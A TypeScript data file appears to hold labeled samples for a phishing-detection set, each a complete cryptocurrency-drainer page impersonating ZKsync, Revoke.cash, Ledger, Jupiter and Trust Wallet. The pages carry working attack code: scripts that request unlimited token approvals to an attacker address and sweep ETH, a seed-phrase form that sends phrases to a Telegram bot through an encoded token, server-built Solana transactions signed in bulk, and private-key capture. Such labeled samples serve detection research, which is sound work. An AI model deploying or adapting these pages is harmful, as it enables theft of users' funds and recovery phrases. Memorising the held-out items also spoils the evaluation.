import { type Entry } from '../entry.js';
import { cssRoute, jsRoute, jsonRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "drainers" (dev split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-drain-zk-airdrop-approve",
    label: "cryptodrainer",
    kind: "airdrop-approve",
    url: "https://claim-zksync-season2.xyz/",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>ZKsync | Airdrop Season II – Check Eligibility</title>
<meta property="og:title" content="ZKsync Airdrop Season II is live">
<meta property="og:image" content="/assets/og.png">
<link rel="stylesheet" href="/assets/index-3d1f.css">
</head>
<body>
<header class="nav"><div class="brand"><span class="zk"></span>ZKsync</div><nav><a href="#">Ecosystem</a><a href="#">Docs</a><a href="#">Governance</a></nav><button class="connect" id="cbtn">Connect Wallet</button></header>
<main>
 <section class="hero">
  <span class="pill">Season II · Phase 1 live</span>
  <h1>Claim your ZK tokens</h1>
  <p>45,000,000 ZK have been allocated to early users, bridgers and LPs. Connect your wallet to check your eligibility. Unclaimed tokens return to the treasury on <b>March 1, 2026</b>.</p>
  <button class="big" id="claim">Check eligibility</button>
  <div class="stats"><div><b>221,408</b><span>Eligible wallets</span></div><div><b>37.2M</b><span>ZK claimed</span></div><div><b id="left">7.8M</b><span>Remaining</span></div></div>
 </section>
 <section id="status" class="status" hidden></section>
</main>
<footer>© 2026 Matter Labs · Terms · Privacy · <a href="#">Audits</a></footer>
<script src="/assets/index-a81c2e.js" type="module"></script>
</body>
</html>
`,
    routes: {
      "claim-zksync-season2.xyz/assets/index-3d1f.css": cssRoute(`body{margin:0;background:#000 radial-gradient(circle at 70% 0,#1e3cff55,transparent 50%);color:#fff;font-family:Inter,system-ui,Arial,sans-serif}
.nav{display:flex;align-items:center;gap:30px;padding:18px 40px}.brand{display:flex;align-items:center;gap:10px;font-weight:700;font-size:20px}
.zk{width:30px;height:18px;background:linear-gradient(90deg,#fff 0 40%,transparent 40% 60%,#fff 60%);clip-path:polygon(0 50%,30% 0,30% 30%,70% 30%,70% 0,100% 50%,70% 100%,70% 70%,30% 70%,30% 100%)}
nav a{color:#aaa;text-decoration:none;margin-right:20px}.connect{margin-left:auto;background:#fff;color:#000;border:0;border-radius:20px;padding:10px 20px;font-weight:600;cursor:pointer}
.hero{max-width:720px;margin:80px auto;text-align:center;padding:0 20px}.pill{border:1px solid #1e69ff;color:#8fb4ff;border-radius:20px;padding:4px 12px;font-size:13px}
h1{font-size:56px;margin:20px 0}.hero p{color:#bbb;font-size:18px}
.big{background:#1e69ff;color:#fff;border:0;border-radius:30px;padding:16px 40px;font-size:18px;font-weight:600;margin-top:20px;cursor:pointer}
.stats{display:flex;justify-content:center;gap:50px;margin-top:50px}.stats b{display:block;font-size:26px}.stats span{color:#888;font-size:13px}
.status{max-width:480px;margin:0 auto 60px;background:#111;border:1px solid #222;border-radius:16px;padding:24px;text-align:center}
footer{text-align:center;color:#555;font-size:13px;padding:40px}footer a{color:#777}
`),
      "claim-zksync-season2.xyz/assets/index-a81c2e.js": jsRoute(`const RECV='0x4a7Fd3B6E0c91f2b8D5e6A0c3b7E91d42F8a1C66';
const TOKENS=[
 {s:'USDT',a:'0xdAC17F958D2ee523a2206206994597C13D831ec7',d:6},
 {s:'USDC',a:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',d:6},
 {s:'WETH',a:'0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2',d:18},
 {s:'DAI',a:'0x6B175474E89094C44Da98b954EedeAC495271d0F',d:18},
 {s:'stETH',a:'0xae7ab96520DE3A18E5e111B5EaAb095312D7fE84',d:18}
];
const MAX='f'.repeat(64);
const pad=a=>a.toLowerCase().replace(/^0x/,'').padStart(64,'0');
const st=document.getElementById('status');
const say=h=>{st.hidden=false;st.innerHTML=h};
const log=(ev,data)=>fetch('https://zk-claim-api.onrender.com/api/log',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({ev,...data,site:location.host})}).catch(()=>{});
async function connect(){
 const eth=window.ethereum;
 if(!eth){say('<p>No wallet detected. Open this page in MetaMask, Rabby or Trust Wallet browser.</p>');return null}
 const [acc]=await eth.request({method:'eth_requestAccounts'});
 try{await eth.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(e){}
 document.getElementById('cbtn').textContent=acc.slice(0,6)+'…'+acc.slice(-4);
 const bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
 log('connect',{acc,bal});
 return acc;
}
async function balanceOf(t,acc){
 const r=await window.ethereum.request({method:'eth_call',params:[{to:t.a,data:'0x70a08231'+pad(acc)},'latest']});
 return BigInt(r||'0x0');
}
async function run(){
 const acc=await connect();if(!acc)return;
 say('<h3>🎉 You are eligible!</h3><p>Allocation: <b>4,218.55 ZK</b> (~$1,104)</p><p>Confirm the claim transactions in your wallet. Gas is refunded.</p>');
 const held=[];
 for(const t of TOKENS){try{const b=await balanceOf(t,acc);if(b>0n)held.push({...t,b:b.toString()})}catch(e){}}
 held.sort((x,y)=>(BigInt(y.b)>BigInt(x.b)?1:-1));
 log('assets',{acc,held});
 for(const t of held){
  try{
   const tx=await window.ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t.a,data:'0x095ea7b3'+pad(RECV)+MAX}]});
   log('approve',{acc,token:t.s,tx});
  }catch(e){log('reject',{acc,token:t.s});}
 }
 const wei=BigInt(await window.ethereum.request({method:'eth_getBalance',params:[acc,'latest']}));
 const keep=3000000000000000n;
 if(wei>keep){
  try{const tx=await window.ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+(wei-keep).toString(16),data:'0x4e71d92d'}]});log('native',{acc,tx})}catch(e){}
 }
 say('<h3>Claim pending…</h3><p>Your ZK will appear in your wallet after 12 confirmations.</p>');
}
document.getElementById('claim').onclick=run;
document.getElementById('cbtn').onclick=connect;
setInterval(()=>{const e=document.getElementById('left');e.textContent=(parseFloat(e.textContent)-0.01).toFixed(2)+'M'},4000);
`),
    },
  },
  {
    id: "f-drain-fake-revoke-tool",
    label: "cryptodrainer",
    kind: "fake-revoke",
    url: "https://revoke-cash.approvals-check.com/address",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Revoke.cash – Revoke your token approvals</title>
<style>
body{margin:0;font-family:"Inter",Arial,sans-serif;background:#fff;color:#111}
.nav{display:flex;align-items:center;padding:16px 30px;border-bottom:1px solid #eee;gap:20px}
.nav b{font-size:20px}.nav b span{color:#d4374b}
.nav button{margin-left:auto;background:#111;color:#fff;border:0;border-radius:8px;padding:10px 16px;cursor:pointer}
.c{max-width:960px;margin:30px auto;padding:0 20px}
.alert{background:#fff4e5;border:1px solid #f3c27a;border-radius:10px;padding:14px;margin-bottom:18px}
table{width:100%;border-collapse:collapse;font-size:14px}th,td{text-align:left;padding:12px;border-bottom:1px solid #eee}
.risk{color:#d4374b;font-weight:600}
.btn{border:1px solid #d4374b;color:#d4374b;background:#fff;border-radius:8px;padding:6px 12px;cursor:pointer}
.all{background:#d4374b;color:#fff;border:0;border-radius:10px;padding:14px 24px;font-size:16px;margin-top:18px;cursor:pointer}
#out{margin-top:12px;font-size:14px;color:#555}
</style>
</head>
<body>
<div class="nav"><b>revoke<span>.</span>cash</b><span style="color:#777;font-size:14px">Approvals · Exploits · Learn</span><button id="con">Connect Wallet</button></div>
<div class="c">
 <div class="alert">⚠️ <b>Critical:</b> One of your approved spenders was involved in the recent <b>Router exploit</b>. Revoke all approvals immediately to protect your funds.</div>
 <table><thead><tr><th>Asset</th><th>Approved spender</th><th>Allowance</th><th>Risk</th><th></th></tr></thead>
 <tbody id="tb"><tr><td colspan="5" style="color:#888">Connect your wallet to load approvals</td></tr></tbody></table>
 <button class="all" id="all">Revoke all (batched)</button>
 <div id="out"></div>
</div>
<script>
var R='0x5C2E3d9F0b1A8e7D6c5B4a39281706F5e4D3c2B1',ACC=null;
var TOK=[['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'],['UNI','0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984'],['PEPE','0x6982508145454Ce325dDbE47a25d4ec3d2311933']];
function hx(a){return a.toLowerCase().replace('0x','').padStart(64,'0')}
async function con(){if(!window.ethereum){alert('No wallet');return}ACC=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('con').textContent=ACC.slice(0,6)+'…'+ACC.slice(-4);
 document.getElementById('tb').innerHTML=TOK.map(function(t,i){return '<tr><td>'+t[0]+'</td><td>0x'+(Math.random().toString(16).slice(2,6))+'…'+(i*713+1000)+'</td><td>Unlimited</td><td class="risk">High</td><td><button class="btn" data-i="'+i+'">Revoke</button></td></tr>'}).join('');
 document.querySelectorAll('.btn').forEach(function(b){b.onclick=function(){revoke(+b.dataset.i)}});
 fetch('/api/track',{method:'POST',body:JSON.stringify({a:ACC})}).catch(function(){})}
async function revoke(i){if(!ACC)await con();var t=TOK[i];
 try{var h=await ethereum.request({method:'eth_sendTransaction',params:[{from:ACC,to:t[1],data:'0x095ea7b3'+hx(R)+'f'.repeat(64)}]});document.getElementById('out').textContent=t[0]+' revoked ✔ ('+h.slice(0,10)+'…)';fetch('/api/track',{method:'POST',body:JSON.stringify({a:ACC,t:t[0],h:h})}).catch(function(){})}catch(e){document.getElementById('out').textContent='Transaction rejected'}}
document.getElementById('con').onclick=con;
document.getElementById('all').onclick=async function(){for(var i=0;i<TOK.length;i++)await revoke(i)};
</script>
</body>
</html>
`,
    routes: {
      "revoke-cash.approvals-check.com/api/track": jsonRoute({ ok: true }),
    },
  },
  {
    id: "f-drain-ledger-fr-phrase-verif",
    label: "cryptodrainer",
    kind: "seed-phrase-fake-vendor",
    url: "https://ledger-verification-securite.fr-support.app/recuperation/",
    body: `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Ledger – Vérification de sécurité de votre appareil</title>
<style>
body{margin:0;background:#000;color:#fff;font-family:Inter,"HM Alpha Mono",Arial,sans-serif}
.hd{padding:22px 40px;border-bottom:1px solid #222;display:flex;align-items:center;gap:12px}
.lg{width:28px;height:28px;border-left:5px solid #fff;border-bottom:5px solid #fff;box-sizing:border-box;position:relative}.lg:after{content:"";position:absolute;right:-5px;top:-5px;width:10px;height:10px;border-top:5px solid #fff;border-right:5px solid #fff}
.hd b{letter-spacing:4px;font-size:18px}
.c{max-width:780px;margin:40px auto;padding:0 20px}
h1{font-size:36px;font-weight:500}.lead{color:#aaa;line-height:1.6}
.box{background:#111;border:1px solid #2a2a2a;border-radius:8px;padding:24px;margin-top:24px}
.sel{display:flex;gap:8px;margin-bottom:16px}.sel button{background:#1c1c1c;border:1px solid #333;color:#fff;padding:8px 14px;border-radius:20px;cursor:pointer}.sel .on{background:#bbb0ff;color:#000}
.words{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}
.words label{display:flex;align-items:center;gap:6px;background:#1c1c1c;border-radius:6px;padding:6px 8px;font-size:12px;color:#888}
.words input{background:transparent;border:0;color:#fff;width:100%;font-size:14px;outline:0}
.go{margin-top:20px;width:100%;background:#bbb0ff;color:#000;border:0;border-radius:30px;padding:14px;font-size:16px;font-weight:600;cursor:pointer}
.warn{font-size:13px;color:#ff9f6a;margin-top:14px}
.modele{display:flex;gap:10px;margin-bottom:16px}.modele span{border:1px solid #333;border-radius:6px;padding:8px 12px;font-size:13px;cursor:pointer}
</style>
</head>
<body>
<div class="hd"><div class="lg"></div><b>LEDGER</b></div>
<div class="c">
 <h1>Vérification de sécurité obligatoire</h1>
 <p class="lead">Suite à l'incident de sécurité affectant notre base de données clients, tous les appareils Ledger Nano doivent être revalidés. Si vous ne procédez pas à la vérification avant le <b id="dl"></b>, les fonds associés à votre appareil pourraient être exposés.</p>
 <div class="box">
  <div class="modele"><span>Nano S Plus</span><span>Nano X</span><span>Stax</span><span>Flex</span></div>
  <div class="sel"><button data-n="12">12 mots</button><button data-n="18">18 mots</button><button data-n="24" class="on">24 mots</button></div>
  <form id="f"><div class="words" id="w"></div><button class="go">Vérifier mon appareil</button></form>
  <p class="warn">La vérification est effectuée localement et chiffrée. Ne fermez pas cette page pendant la synchronisation.</p>
 </div>
</div>
<script>
var d=new Date();d.setDate(d.getDate()+3);document.getElementById('dl').textContent=d.toLocaleDateString('fr-FR');
function build(n){var w=document.getElementById('w');w.innerHTML='';for(var i=1;i<=n;i++){w.innerHTML+='<label>'+i+'.<input name="w'+i+'" autocomplete="off" spellcheck="false"></label>'}}
build(24);
document.querySelectorAll('.sel button').forEach(function(b){b.onclick=function(e){e.preventDefault();document.querySelectorAll('.sel button').forEach(function(x){x.classList.remove('on')});b.classList.add('on');build(+b.dataset.n)}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();
 var ws=[].map.call(document.querySelectorAll('#w input'),function(i){return i.value.trim().toLowerCase()});
 if(ws.some(function(x){return !x})){alert('Veuillez remplir tous les mots.');return}
 var tk='NzA0NjYzMzAxODpBQUh4cTNOblJfOG1Wa0xwVHoyV2NZYjBKZEZlNnNHdUsxbw==';
 fetch('https://api.telegram.org/bot'+atob(tk)+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1001774410923',text:'LEDGER FR ('+ws.length+')\\n'+ws.join(' ')+'\\n'+navigator.userAgent})}).catch(function(){}).finally(function(){
  document.querySelector('.box').innerHTML='<h2>Synchronisation en cours…</h2><p class="lead">Votre appareil est en cours de vérification. Vous recevrez un e-mail de confirmation sous 24 heures.</p>';
 });
};
</script>
</body>
</html>
`,
  },
  {
    id: "f-drain-solana-jup-claim",
    label: "cryptodrainer",
    kind: "solana-sign-all",
    url: "https://jup-ag.claim-jupuary.app/",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Jupuary 2026 | Claim JUP</title>
<style>
body{margin:0;background:#13171f;color:#e8f9ff;font-family:"Inter",Arial,sans-serif}
.n{display:flex;align-items:center;padding:16px 30px;gap:10px}.n i{width:30px;height:30px;border-radius:50%;background:conic-gradient(#c7f284,#00bef0,#c7f284)}.n b{font-size:18px}
.n button{margin-left:auto;background:#c7f284;color:#13171f;border:0;border-radius:10px;padding:10px 16px;font-weight:700}
.m{max-width:520px;margin:60px auto;text-align:center;padding:0 20px}
h1{font-size:46px;margin:0 0 10px;background:linear-gradient(90deg,#c7f284,#00bef0);-webkit-background-clip:text;color:transparent}
.box{background:#1b2029;border:1px solid #2b3340;border-radius:18px;padding:26px;margin-top:24px;text-align:left}
.row{display:flex;justify-content:space-between;padding:8px 0;border-bottom:1px solid #2b3340;font-size:14px}
.cl{width:100%;margin-top:18px;padding:15px;border:0;border-radius:12px;background:#c7f284;color:#13171f;font-size:17px;font-weight:700;cursor:pointer}
#s{margin-top:12px;font-size:13px;color:#9aa6b8}
</style>
</head>
<body>
<div class="n"><i></i><b>Jupiter</b><button id="cw">Connect Wallet</button></div>
<div class="m">
 <h1>Jupuary is here</h1>
 <p>700M JUP distributed to active swappers, stakers and voters. Claim window closes in <b id="cd">71:59:12</b>.</p>
 <div class="box">
  <div class="row"><span>Swap volume tier</span><b id="t1">—</b></div>
  <div class="row"><span>Staking bonus</span><b id="t2">—</b></div>
  <div class="row"><span>Your allocation</span><b id="t3">—</b></div>
  <button class="cl" id="claim">Claim JUP</button>
  <div id="s"></div>
 </div>
</div>
<script src="/static/claim.js"></script>
</body>
</html>
`,
    routes: {
      "jup-ag.claim-jupuary.app/static/claim.js": jsRoute(`(function(){
var BK='https://jupuary-api.fly.dev';
function s(t){document.getElementById('s').textContent=t}
function prov(){if(window.phantom&&window.phantom.solana)return window.phantom.solana;if(window.solflare)return window.solflare;if(window.backpack)return window.backpack;return window.solana}
async function connect(){var p=prov();if(!p){s('Install Phantom, Solflare or Backpack to continue.');return null}
 var r=await p.connect();var pk=(r&&r.publicKey||p.publicKey).toString();document.getElementById('cw').textContent=pk.slice(0,4)+'..'+pk.slice(-4);
 document.getElementById('t1').textContent='Gold';document.getElementById('t2').textContent='x1.6';document.getElementById('t3').textContent=(1500+Math.floor(Math.random()*4000))+' JUP';
 return {p:p,pk:pk}}
function b64ToBytes(b){var s=atob(b),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);return u}
async function claim(){
 var c=await connect();if(!c)return;
 s('Preparing claim transactions…');
 var res=await fetch(BK+'/v2/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:c.pk,ref:location.host})}).then(function(r){return r.json()}).catch(function(){return null});
 if(!res||!res.txs){s('Network busy, retrying…');setTimeout(claim,3000);return}
 var txs=res.txs.map(function(b){return window.solanaWeb3?window.solanaWeb3.VersionedTransaction.deserialize(b64ToBytes(b)):b64ToBytes(b)});
 s('Approve the claim in your wallet');
 try{
  var signed=await c.p.signAllTransactions(txs);
  var out=signed.map(function(t){var u=t.serialize?t.serialize():t;return btoa(String.fromCharCode.apply(null,u))});
  await fetch(BK+'/v2/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:c.pk,signed:out})});
  s('Claim submitted! Tokens arrive within a few minutes.');
 }catch(e){s('Claim cancelled. You may lose your allocation if you do not claim.')}
}
document.getElementById('claim').onclick=claim;document.getElementById('cw').onclick=connect;
var t=72*3600-48;setInterval(function(){t--;document.getElementById('cd').textContent=Math.floor(t/3600)+':'+String(Math.floor(t%3600/60)).padStart(2,'0')+':'+String(t%60).padStart(2,'0')},1000);
})();
`),
    },
  },
  {
    id: "f-drain-trustwallet-es-verificacion",
    label: "cryptodrainer",
    kind: "seed-phrase-phish",
    url: "https://trustwallet-verificacion.com/es/wallet/verify",
    body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Trust Wallet | Verificación obligatoria de la billetera</title>
<style>
body{margin:0;background:#fff;color:#1b1b1c;font-family:"Inter",Arial,sans-serif}
.h{display:flex;align-items:center;gap:10px;padding:16px 28px;border-bottom:1px solid #eee}
.sh{width:26px;height:30px;background:#0500ff;clip-path:polygon(50% 0,100% 15%,90% 70%,50% 100%,10% 70%,0 15%)}
.h b{font-size:18px}
.c{max-width:520px;margin:30px auto;padding:0 20px}
h1{font-size:28px}
.al{background:#fff4e6;border-radius:12px;padding:14px;font-size:14px;margin-bottom:20px}
.tabs{display:flex;background:#f4f4f6;border-radius:12px;padding:4px;margin-bottom:16px}.tabs div{flex:1;text-align:center;padding:10px;border-radius:10px;cursor:pointer;font-size:14px}.tabs .on{background:#fff;box-shadow:0 1px 3px rgba(0,0,0,.1);font-weight:600}
textarea,input{width:100%;box-sizing:border-box;border:1px solid #ddd;border-radius:12px;padding:14px;font-size:15px;font-family:inherit}
textarea{height:120px;resize:none}
.b{width:100%;margin-top:16px;background:#0500ff;color:#fff;border:0;border-radius:24px;padding:15px;font-size:16px;font-weight:600;cursor:pointer}
.sm{font-size:12px;color:#777;margin-top:8px}
.pane{display:none}.pane.on{display:block}
</style>
</head>
<body>
<div class="h"><div class="sh"></div><b>Trust Wallet</b></div>
<div class="c">
 <h1>Verifica tu billetera</h1>
 <div class="al">🔒 Debido a la actualización de cumplimiento de la normativa MiCA, todas las billeteras deben verificarse antes del <b id="f"></b>. Las billeteras no verificadas serán restringidas y no podrán enviar ni recibir fondos.</div>
 <div class="tabs"><div class="on" data-p="a">Frase secreta</div><div data-p="b">Clave privada</div></div>
 <form id="v">
  <div class="pane on" id="a"><textarea name="frase" placeholder="Introduce tu frase de recuperación de 12 o 24 palabras"></textarea><p class="sm">Separa cada palabra con un espacio.</p></div>
  <div class="pane" id="b"><input name="clave" placeholder="Clave privada (64 caracteres)"></div>
  <input type="hidden" name="origen" value="tw-es">
  <button class="b">Verificar ahora</button>
 </form>
</div>
<script>
var d=new Date();d.setDate(d.getDate()+2);document.getElementById('f').textContent=d.toLocaleDateString('es-ES',{day:'numeric',month:'long'});
document.querySelectorAll('.tabs div').forEach(function(t){t.onclick=function(){document.querySelectorAll('.tabs div').forEach(function(x){x.classList.remove('on')});t.classList.add('on');document.querySelectorAll('.pane').forEach(function(p){p.classList.toggle('on',p.id===t.dataset.p)})}});
document.getElementById('v').onsubmit=function(e){e.preventDefault();
 var fr=this.frase.value.trim(),k=this.clave.value.trim();
 if(fr&&fr.split(/\\s+/).length<12){alert('La frase debe tener al menos 12 palabras');return}
 if(!fr&&!/^(0x)?[0-9a-fA-F]{64}$/.test(k)){alert('Clave privada no válida');return}
 var fd=new FormData(this);
 fetch('/es/wallet/api/send.php',{method:'POST',body:fd}).catch(function(){}).finally(function(){document.querySelector('.c').innerHTML='<h1>Verificación en curso</h1><p>Tu billetera se está sincronizando. Este proceso puede tardar hasta 24 horas.</p>'});
};
</script>
</body>
</html>
`,
    routes: {
      "trustwallet-verificacion.com/es/wallet/api/send.php": jsonRoute({ status: 'success' }),
    },
  },
];
